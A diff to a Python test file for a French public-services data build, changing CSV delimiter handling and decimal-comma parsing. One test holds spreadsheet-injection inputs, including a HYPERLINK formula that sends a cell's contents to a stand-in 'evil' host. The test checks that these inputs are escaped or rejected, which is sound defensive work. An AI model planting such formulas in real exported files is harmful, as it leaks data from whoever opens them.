@@ -23,8 +23,11 @@ EXAMPLE_SOURCES = ROOT / "data" / "services" / "exemple-sources.csv"
 
 
 def read_csv(path: Path) -> list[dict]:
+    """A CSV file: a data file (",") or an output of a build (";", the default format)."""
     with open(path, encoding="utf-8-sig", newline="") as fh:
-        return list(csv.DictReader(fh))
+        delimiter = ";" if ";" in fh.readline() else ","
+        fh.seek(0)
+        return list(csv.DictReader(fh, delimiter=delimiter))
 
 
 def populations(year: int) -> dict[str, int]:
@@ -76,12 +79,12 @@ def test_example_figures_follow_from_the_data(example_build):
         if code in covered:
             assert row["statut"] == "couvert"
             assert int(row["services_actifs"]) == per_dep[code]
-            assert float(row["services_pour_100k"]) == pytest.approx(
+            assert float(row["services_pour_100k"].replace(",", ".")) == pytest.approx(
                 per_dep[code] / pop[code] * 1e5, abs=1e-3
             )
         else:
             assert row["statut"] == "non_couvert"
-            assert float(row["services_pour_100k"]) == 0
+            assert row["services_pour_100k"] == "0"
 
     summary = json.loads(example_build.outputs["summary"].read_text(encoding="utf-8"))
     uncovered_pop = sum(p for c, p in pop.items() if c not in covered)
@@ -184,12 +187,13 @@ def test_listing_text_cannot_become_a_spreadsheet_formula(tmp_path):
         ('\'=HYPERLINK("http://evil"&A1,"x")', "'+1"),
         ("'@SUM(1)", "'-2+3"),
     ]
-    assert services[1]["longitude"] == "-1.68" and services[1]["longitude_placee"] == "-1.68"
+    # The listing's text as written; the position placed, a number with a decimal comma.
+    assert services[1]["longitude"] == "-1.68" and services[1]["longitude_placee"] == "-1,68"
     rejects = read_csv(result.outputs["rejects"])
     assert [r["nom"] for r in rejects] == ["'=1+2"]
     assert all(value[:1] not in ("=", "+", "-", "@") for r in rejects for value in r.values())
     text = result.outputs["services"].read_text(encoding="utf-8-sig")
-    assert "\n=" not in text and ",=" not in text and ',"=' not in text
+    assert "\n=" not in text and ";=" not in text and ';"=' not in text
 
 
 def test_out_folder_is_checked_before_the_long_steps(tmp_path, monkeypatch):
